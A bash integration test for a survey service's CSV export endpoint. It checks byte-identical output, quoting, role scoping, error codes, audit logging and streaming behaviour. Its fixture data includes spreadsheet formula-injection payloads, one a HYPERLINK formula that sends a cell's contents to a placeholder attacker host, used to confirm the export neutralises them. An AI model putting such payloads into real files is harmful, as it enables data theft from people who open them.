#!/usr/bin/env bash
# export.sh: GET /api/v1/export (docs/uploads.md) against a real PostgreSQL
# and sipasd: the same bytes as sipasctl export for the same filters, quoting
# of awkward fields, an export uploaded again stores nothing new, the unit
# scope of uploader tokens, the roles, precise errors, the audit log, and
# streaming: a reader that stops reading does not make sipasd hold the
# export in memory, does not block other reads, and one that leaves is let go.
set -u
. "$(dirname "$0")/daemon_lib.sh"

command -v jq >/dev/null || bail "jq is required"
command -v python3 >/dev/null || bail "python3 is required"
db_setup
"$SIPASCTL" --db "$DSN" survey load "$FIXTURES/custom-pooled.survey.json" >/dev/null || bail "survey load"

ADMIN=$(token admin)
UPLOADER=$(token uploader)
UPLOADER1=$(token uploader U001)
UPLOADER2=$(token uploader U002)
VIEWER=$(token viewer)
COLLECTOR=$(token collector)
NOTOKEN=

sipasd_start "upload_max = 8388608"

# upload TOKEN SURVEY FILE: prints the status; answer in $tmp/body.
upload() {
	curl -s -o "$tmp/body" -w '%{http_code}' -H "Authorization: Bearer $1" \
		-H 'Content-Type: text/csv' --data-binary "@$3" "$URL/api/v1/uploads?survey=$2"
}
# export TOKEN QUERY OUT: GET /api/v1/export?QUERY into OUT; prints the status.
export_get() {
	local auth=()
	[ -n "$1" ] && auth=(-H "Authorization: Bearer $1")
	curl -s -o "$3" -D "$tmp/headers" -w '%{http_code}' "${auth[@]}" "$URL/api/v1/export?$2"
}
# ctl_export OUT ARGS...: sipasctl export.
ctl_export() {
	local out=$1
	shift
	"$SIPASCTL" --db "$DSN" export "$@" >"$out" 2>>"$tmp/ctl.err"
}
totals() {
	jq -r '"\(.rows) \(.stored) \(.duplicates) \(.conflicts) \(.rejected)"' "$tmp/body"
}

# --- data: the fixtures, and rows with awkward fields --------------------------
for f in onestop-simple:onestop-tt01 sipas2023-weighted:sipas-2023 custom-pooled:custom-health-2025 \
	sipas2017-simple:sipas-2017; do
	is "$(upload "$ADMIN" "${f#*:}" "$FIXTURES/${f%%:*}.csv")" 200 "${f%%:*}: uploaded"
done
cat >"$tmp/awkward.csv" <<'EOF'
id,unit,submitted_at,channel,weight,stratum,psu,R1,respondent.gender,respondent.residence
"aw,1",C011,2025-03-01T10:00:00+07:00,web,0.1,"s,1","p""1",3,f,"says ""hi"", then
leaves"
aw-2,C012,2025-03-02,kiosk,2.5,,,2,m,=SUM(A1:A9)
aw-3,U002,2025-12-31T23:59:59+07:00,sms,1,,,1,,plain
aw-4,U001,2026-01-01T00:00:00+07:00,paper,0.3333333333333333,,,1,f,
aw-5,C011,2025-03-03,web,1,,,3,f,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"
aw-6,C011,2025-03-04,web,1,,,3,m,+1
aw-7,C011,2025-03-05,web,1,,,3,m,-2
aw-8,C011,2025-03-06,web,1,,,3,m,@SUM(1)
aw-9,C011,2025-03-07,web,1,,,3,m,'=already quoted
aw-10,C011,2025-03-08,web,1,,,3,m,it's -fine
EOF
is "$(upload "$ADMIN" onestop-tt01 "$tmp/awkward.csv")" 200 "rows with quotes, commas, a line break and demographics: uploaded"
is "$(totals)" "10 10 0 0 0" "all 10 stored" || jq -c '.errors' "$tmp/body" | head -c 2000 | sed 's/^/# /' >&2
is "$(sql "SELECT respondent ->> 'residence' FROM responses WHERE source_id = 'aw-5'")" '=HYPERLINK("http://evil.example/?x="&A1,"click")' \
	"a comment that is a formula is stored as the citizen wrote it"
is "$(sql "SELECT respondent ->> 'residence' FROM responses WHERE source_id = 'aw-9'")" "=already quoted" \
	"a ' before a formula in an uploaded file is taken off (the export's own guard)"
st=$(post "$ADMIN" '{"id": "aw-11", "survey": "onestop-tt01", "unit": "C011", "submitted_at": "2025-03-09T10:00:00+07:00", "channel": "web", "answers": {"R1": 3}, "respondent": {"gender": "m", "residence": "'"'"'=quoted by its writer"}}')
is "$st" 201 "a comment that starts with '= itself, through the API" || sed 's/^/# /' "$tmp/body" >&2

# --- the same bytes as sipasctl export ------------------------------------------
# NAME | query | sipasctl arguments
while IFS='|' read -r name query args; do
	# shellcheck disable=SC2086
	ctl_export "$tmp/ctl.csv" $args
	st=$(export_get "$ADMIN" "$query" "$tmp/api.csv")
	is "$st" 200 "$name: 200"
	if cmp -s "$tmp/ctl.csv" "$tmp/api.csv" && [ -s "$tmp/api.csv" ]; then
		tap 0 "$name: the same bytes as sipasctl export ($(($(wc -l <"$tmp/api.csv") - 1)) lines of rows)"
	else
		tap 1 "$name: the same bytes as sipasctl export"
		diff "$tmp/ctl.csv" "$tmp/api.csv" | head -n 10 | sed 's/^/# /' >&2
	fi
done <<'EOF'
onestop, everything|survey=onestop-tt01|--survey onestop-tt01
onestop, unit U001|survey=onestop-tt01&unit=U001|--survey onestop-tt01 --unit U001
onestop, commune C011|survey=onestop-tt01&unit=C011|--survey onestop-tt01 --unit C011
onestop, from and to|survey=onestop-tt01&from=2025-03-01&to=2025-05-31|--survey onestop-tt01 --from 2025-03-01 --to 2025-05-31
onestop, channel web|survey=onestop-tt01&channel=web|--survey onestop-tt01 --channel web
onestop, all filters|survey=onestop-tt01&unit=P01&from=2025-02-01&to=2025-12-31&channel=kiosk|--survey onestop-tt01 --unit P01 --from 2025-02-01 --to 2025-12-31 --channel kiosk
sipas-2023|survey=sipas-2023|--survey sipas-2023
custom survey, strata|survey=custom-health-2025&unit=U002|--survey custom-health-2025 --unit U002
EOF
ctl_export "$tmp/ctl.csv" --survey onestop-tt01
grep -q '^"aw,1",C011,2025-03-01T10:00:00+07:00,web,0.1,"s,1","p""1",3,f,"says ""hi"", then$' "$tmp/ctl.csv"
tap $? "a field with a comma, a quote or a line break is quoted (RFC 4180)"
grep -q '^aw-3,U002,2025-12-31T23:59:59+07:00,sms,1,,,1,,plain' "$tmp/ctl.csv"
tap $? "other fields are written as they are"
# Formula injection: text a spreadsheet would run gets a ' in front.
grep -q "^aw-2,C012,2025-03-02T00:00:00+07:00,kiosk,2.5,,,2,m,'=SUM(A1:A9)" "$tmp/ctl.csv"
tap $? "=SUM(...) is written '=SUM(...)"
grep -q "^aw-5,C011,2025-03-03T00:00:00+07:00,web,1,,,3,f,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"" "$tmp/ctl.csv"
tap $? "a =HYPERLINK(...) comment is written '=HYPERLINK(...), quoted"
grep -q "^aw-6,.*,m,'+1.\$" "$tmp/ctl.csv" && grep -q "^aw-7,.*,m,'-2.\$" "$tmp/ctl.csv" &&
	grep -q "^aw-8,.*,m,'@SUM(1).\$" "$tmp/ctl.csv" && grep -q "^aw-9,.*,m,'=already quoted.\$" "$tmp/ctl.csv" &&
	grep -q "^aw-10,.*,m,it's -fine.\$" "$tmp/ctl.csv" && grep -q "^aw-11,.*,m,''=quoted by its writer.\$" "$tmp/ctl.csv"
tap $? "text starting with +, -, @ gets a ' too; text with a ' or - further on does not"
grep -q "^aw-7,C011,2025-03-05T00:00:00+07:00,web,1,,,3," "$tmp/ctl.csv"
tap $? "numbers stay numbers (weight, answers)"
head -n 1 "$tmp/ctl.csv" | od -c | grep -q '\\r  \\n'
tap $? "lines end in CRLF"
export_get "$ADMIN" "survey=onestop-tt01&from=2030-01-01" "$tmp/api.csv" >/dev/null
is "$(cat "$tmp/api.csv")" "$(printf 'id,unit,submitted_at,channel,weight,stratum,psu,R1\r')" \
	"an empty selection: the header alone, without respondent columns"
export_get "$ADMIN" "survey=onestop-tt01&unit=U001" "$tmp/api.csv" >/dev/null
grep -qi '^Content-Type: text/csv; charset=utf-8' "$tmp/headers" && grep -qi '^Transfer-Encoding: chunked' "$tmp/headers" &&
	grep -qi '^Content-Disposition: attachment; filename="onestop-tt01.csv"' "$tmp/headers"
tap $? "text/csv, chunked, a file name"

# --- an export uploaded again stores nothing new --------------------------------
before=$(sql "SELECT count(*) FROM responses")
for s in onestop-tt01 sipas-2023 custom-health-2025; do
	export_get "$UPLOADER" "survey=$s" "$tmp/re.csv" >/dev/null
	n=$(sql "SELECT count(*) FROM responses WHERE survey = '$s'")
	is "$(upload "$UPLOADER" "$s" "$tmp/re.csv")" 200 "$s: the export uploaded again: 200"
	is "$(totals)" "$n 0 $n 0 0" "$s: $n rows, all duplicates, nothing stored"
done
is "$(sql "SELECT count(*) FROM responses")" "$before" "the table has no new row"

# --- scope and roles -----------------------------------------------------------
ctl_export "$tmp/ctl.csv" --survey onestop-tt01 --unit U001
export_get "$UPLOADER1" "survey=onestop-tt01" "$tmp/api.csv" >/dev/null
cmp -s "$tmp/ctl.csv" "$tmp/api.csv"
tap $? "an uploader of U001 without unit=: its subtree (U001, C011, C012), as sipasctl export --unit U001"
ctl_export "$tmp/ctl.csv" --survey onestop-tt01 --unit C012
export_get "$UPLOADER1" "survey=onestop-tt01&unit=C012" "$tmp/api.csv" >/dev/null
cmp -s "$tmp/ctl.csv" "$tmp/api.csv"
tap $? "an uploader of U001 with unit=C012 (inside): that unit"
# token | query | status | error field
while IFS='|' read -r name tok query want field; do
	got=$(export_get "${!tok}" "$query" "$tmp/body")
	if [ -n "$field" ]; then
		is "$got $(error_field)" "$want $field" "$name: $want, field $field"
	else
		is "$got" "$want" "$name: $want"
	fi
done <<'EOF'
uploader U001, unit U002|UPLOADER1|survey=onestop-tt01&unit=U002|403|unit
uploader U001, unit P01 (its parent)|UPLOADER1|survey=onestop-tt01&unit=P01|403|unit
uploader U002, its own unit|UPLOADER2|survey=onestop-tt01&unit=U002|200|
viewer|VIEWER|survey=onestop-tt01|403|
collector|COLLECTOR|survey=onestop-tt01|403|
no token|NOTOKEN|survey=onestop-tt01|401|
no survey|ADMIN|unit=U001|400|survey
unknown parameter|ADMIN|survey=onestop-tt01&untis=U001|400|untis
unknown survey|ADMIN|survey=nope|422|survey
unknown unit|ADMIN|survey=onestop-tt01&unit=NOPE|422|unit
bad from|ADMIN|survey=onestop-tt01&from=2025-3-1|422|from
no such day|ADMIN|survey=onestop-tt01&to=2025-02-29|422|to
to before from|ADMIN|survey=onestop-tt01&from=2025-05-01&to=2025-04-30|422|to
unknown channel|ADMIN|survey=onestop-tt01&channel=fax|422|channel
EOF
is "$(curl -s -o /dev/null -w '%{http_code}' -X POST -H "Authorization: Bearer $ADMIN" "$URL/api/v1/export?survey=onestop-tt01")" \
	405 "POST: 405"
grep -qi '^WWW-Authenticate: Bearer' "$tmp/headers" || export_get "" "survey=onestop-tt01" "$tmp/body" >/dev/null
grep -qi '^WWW-Authenticate: Bearer' "$tmp/headers"
tap $? "401 with WWW-Authenticate"

# --- the audit log -------------------------------------------------------------
is "$(sql "SELECT detail->>'survey' || ' ' || (detail->>'unit') || ' ' || (detail->>'rows') || ' ' || (detail->>'complete') FROM audit_log WHERE action = 'export' AND actor = 't-uploader-U001' ORDER BY id LIMIT 1")" \
	"onestop-tt01 U001 $(sql "SELECT count(*) FROM responses r JOIN units u ON u.code = r.unit WHERE survey = 'onestop-tt01' AND (u.code = 'U001' OR u.parent = 'U001')") true" \
	"an export is in the audit log under the token's name: survey, unit, rows, complete"

# --- streaming: a large export, a reader that stalls, a reader that leaves -------
# The 600 sipas-2017 rows copied 400 times: 240,600 rows, about 25 MB of CSV.
sql "INSERT INTO responses (survey, unit, source_id, submitted_at, channel, weight, stratum, psu, answers, respondent, content_hash)
	SELECT survey, unit, 'big-' || g || '-' || source_id, submitted_at, channel, weight, stratum, psu, answers,
	       jsonb_build_object('copy', g::text), md5(g || content_hash)
	FROM responses, generate_series(1, 400) g WHERE survey = 'sipas-2017'" >/dev/null
sql "ANALYZE responses" >/dev/null   # as autovacuum would after such a load
big=$(sql "SELECT count(*) FROM responses WHERE survey = 'sipas-2017'")
ctl_export "$tmp/ctl-big.csv" --survey sipas-2017
size=$(stat -c %s "$tmp/ctl-big.csv")
rss() { sed -n 's/^VmRSS:[[:space:]]*\([0-9]*\) kB/\1/p' "/proc/$SIPASD_PID/status"; }
# A client that sends the request and reads nothing until the file GO exists
# (the test creates it once sipasd's log shows the export waiting for this
# reader; after 300 s it reads anyway), then reads everything, or one block
# and leaves.
cat >"$tmp/slow.py" <<'EOF'
import os, socket, sys, time
host, port, path, token, out, go, leave = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5], sys.argv[6], sys.argv[7] == "1"
s = socket.create_connection((host, port))
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
s.sendall(("GET %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n" % (path, token)).encode())
deadline = time.monotonic() + 300
while not os.path.exists(go) and time.monotonic() < deadline:
    time.sleep(0.05)
if leave:
    s.recv(65536)
    s.close()
    sys.exit(0)
data = b""
while True:
    b = s.recv(1 << 20)
    if not b:
        break
    data += b
head, _, body = data.partition(b"\r\n\r\n")
# De-chunk.
res = b""
while True:
    line, _, body = body.partition(b"\r\n")
    n = int(line, 16)
    if n == 0:
        break
    res += body[:n]
    body = body[n + 2:]
open(out, "wb").write(res)
EOF
port=${URL##*:}
# The rows just inserted are queued for sipasd's folder: let it fold them
# first, so that what is measured below is the export's memory, not the
# fold's.
for i in $(seq 1 1200); do
	[ "$(sql 'SELECT count(*) FROM agg_queue')" = 0 ] && break
	sleep 0.1
done
base=$(rss)
echo 5 >"/proc/$SIPASD_PID/clear_refs" 2>/dev/null
stalled_re='export: [0-9]+ bytes unsent after [0-9]+ rows: waiting for the client to read'
python3 "$tmp/slow.py" 127.0.0.1 "$port" "/api/v1/export?survey=sipas-2017" "$ADMIN" "$tmp/api-big.csv" "$tmp/go1" 0 &
slow=$!
# The reader is stalled once sipasd's log says the export waits for it: the
# connection holds more than the high water mark unsent. A loaded machine may
# take long to get there, hence the generous bound.
wait_log "$stalled_re" 1 120
tap $? "the export waited for the stalled reader (high water mark) instead of queueing"
t0=$(date +%s%N)
is "$(get "$VIEWER" '/api/v1/indices?survey=onestop-tt01&unit=P01')" 200 "while an export waits for its reader, the indices still answer"
t1=$(date +%s%N)
tap $(( (t1 - t0) / 1000000 < 1500 ? 0 : 1 )) "and at once ($(( (t1 - t0) / 1000000 )) ms)"
stalled=$(rss)
: >"$tmp/go1"
wait $slow
cmp -s "$tmp/ctl-big.csv" "$tmp/api-big.csv"
tap $? "a large export read by a slow client: $big rows, $size bytes, the same bytes as sipasctl export"
peak=$(hwm)
if ldd "$SIPASD" 2>/dev/null | grep -q libasan; then
	tap 0 "# SKIP memory bound: ASan's allocator keeps freed memory"
else
	growth=$((peak - base))
	tap $((growth < 8192 ? 0 : 1)) "sipasd's memory grew by $((growth / 1024)) MiB (peak), at most 8 MiB, for a $((size / 1048576)) MiB export (RSS $((base / 1024)) MiB before, $((stalled / 1024)) MiB while stalled)"
fi
n=$(grep -cE "$stalled_re" "$SIPASD_LOG")
python3 "$tmp/slow.py" 127.0.0.1 "$port" "/api/v1/export?survey=sipas-2017" "$ADMIN" /dev/null "$tmp/go2" 1 &
slow=$!
wait_log "$stalled_re" $((n + 1)) 120 || tap 1 "the second export reached the high water mark"
: >"$tmp/go2"
wait $slow
wait_log 'export sipas-2017: .* rows \(stopped: the client left\)' 1 60
tap $? "a client that leaves in the middle: the export stops"
is "$(sql "SELECT detail->>'complete' FROM audit_log WHERE action = 'export' ORDER BY id DESC LIMIT 1")" false \
	"and is audited as incomplete"
is "$(get "" /healthz)" 200 "sipasd still answers"

# The database goes away in the middle: the client must not get a short file
# that looks whole. Last, since PostgreSQL stays down.
curl -s --limit-rate 1M -o "$tmp/cut.csv" -H "Authorization: Bearer $ADMIN" "$URL/api/v1/export?survey=sipas-2017" &
cut=$!
# In the middle: curl has the header row and some rows.
for i in $(seq 1 600); do
	[ "$(stat -c %s "$tmp/cut.csv" 2>/dev/null || echo 0)" -gt 65536 ] && break
	sleep 0.1
done
"$PGSH" stop "$PGDIR" >/dev/null 2>&1
wait $cut
is $? 18 "PostgreSQL stops in the middle of an export: the transfer is incomplete (curl exit 18: no last chunk)"
grep -q 'export sipas-2017: .* rows (stopped: database failure)' "$SIPASD_LOG"
tap $? "and the log says why"

if grep -E 'Sanitizer|runtime error|assertion failed' "$tmp/ctl.err" >&2; then
	tap 1 "sipasctl's stderr has no sanitizer report"
else
	tap 0 "sipasctl's stderr has no sanitizer report"
fi
sipasd_stop
is $? 0 "sipasd exits 0 on SIGTERM"
log_clean
finish
